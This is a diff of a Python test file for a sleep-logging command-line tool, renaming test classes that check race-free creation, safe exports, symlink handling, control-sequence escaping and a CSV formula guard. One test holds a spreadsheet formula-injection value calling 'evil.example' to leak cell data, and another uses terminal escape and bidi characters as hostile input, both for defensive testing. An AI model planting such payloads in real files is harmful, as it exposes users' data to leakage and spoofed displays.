@@ -1,5 +1,5 @@
-"""End-to-end: the faults an outside probe found (issue 12), one test class per item,
-each named after it. Nothing lost, nothing overwritten, nothing injected."""
+"""End-to-end: the faults an outside probe found, one test class per fault, each named
+after the behaviour it holds. Nothing lost, nothing overwritten, nothing injected."""
 
 import json
 import os
@@ -27,7 +27,7 @@ def as_nobody():
 HEADER = "id,uuid,child,night,kind,start,end,duration_s,by,note\n"
 
 
-class Item1RaceFreeCreation(SleeplogTest):
+class ConcurrentFirstCommandsCreateOneDatabase(SleeplogTest):
     """Processes starting at once on a missing database: every reported success is
     stored, no failure removes anything, no reader sees a half-made schema."""
 
@@ -82,7 +82,7 @@ class Item1RaceFreeCreation(SleeplogTest):
                 self.assertEqual(leftovers, [], context)
 
 
-class Item2FullDiskOnStdout(SleeplogTest):
+class FullDiskOnStdoutFailsWithAMessage(SleeplogTest):
     def setUp(self):
         super().setUp()
         self.ok("demo", "--nights", "120")
@@ -117,7 +117,7 @@ class Item2FullDiskOnStdout(SleeplogTest):
         self.assertIn("cannot write the output", proc.stderr)
 
 
-class Item3ExportOutputFile(SleeplogTest):
+class ExportToAFileIsWrittenSafely(SleeplogTest):
     def setUp(self):
         super().setUp()
         self.log_worked_night()
@@ -188,7 +188,7 @@ class Item3ExportOutputFile(SleeplogTest):
         self.assertEqual(sorted(n for n in os.listdir(self.dir) if "out" in n), ["out.json"])
 
 
-class Item4SymlinkedDatabasePath(SleeplogTest):
+class SymlinkedDatabasePathsFollowedOrRefused(SleeplogTest):
     def test_home_under_a_symlinked_folder_works(self):
         real = os.path.join(self.dir, "real-home")
         os.mkdir(real)
@@ -216,7 +216,7 @@ class Item4SymlinkedDatabasePath(SleeplogTest):
         self.assertFalse(os.path.exists(os.path.join(self.dir, "nowhere")))
 
 
-class Item5TerminalControlSequences(SleeplogTest):
+class TerminalControlSequencesAreEscaped(SleeplogTest):
     def assert_clean(self, text):
         self.assertNotIn("\x1b", text)
         self.assertNotIn("\x9b", text)
@@ -262,7 +262,7 @@ class Item5TerminalControlSequences(SleeplogTest):
         self.assertIn("a\x9b2Jb\u202egnp.exe", [e["note"] for e in events])
 
 
-class Item6ExportsImportBack(SleeplogTest):
+class EveryExportImportsBackExactly(SleeplogTest):
     def write(self, name, text):
         path = os.path.join(self.dir, name)
         with open(path, "wb") as f:
@@ -325,7 +325,7 @@ class Item6ExportsImportBack(SleeplogTest):
         self.assertFalse(os.path.exists(self.db))
 
 
-class Item7FormulaGuardOnEveryTextCell(SleeplogTest):
+class FormulaGuardOnEveryTextCell(SleeplogTest):
     def test_uuid_is_guarded_and_comes_back_exact(self):
         uuid = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
         path = os.path.join(self.dir, "in.csv")
@@ -348,7 +348,7 @@ class Item7FormulaGuardOnEveryTextCell(SleeplogTest):
         self.assertEqual(self.ok("export", SLEEPLOG_DB=other).out, csv)
 
 
-class Item8FailedCommandsCreateNothing(SleeplogTest):
+class FailedFirstCommandsCreateNothing(SleeplogTest):
     def test_failing_first_commands_leave_no_database(self):
         for args in (["cry", "stop"], ["config", "week-start", "xyz"],
                      ["config", "default-child", "Nobody"], ["child", "rename", "a", "b"],
@@ -365,7 +365,7 @@ class Item8FailedCommandsCreateNothing(SleeplogTest):
         self.assertEqual(self.ok("config", "week-start").out, "sun\n")
 
 
-class Item9SmallerOnes(SleeplogTest):
+class ImportAndOpeningEdgeCases(SleeplogTest):
     def test_huge_baby_tracker_duration_is_a_bad_row(self):
         path = os.path.join(self.dir, "sleep.csv")
         with open(path, "w") as f:
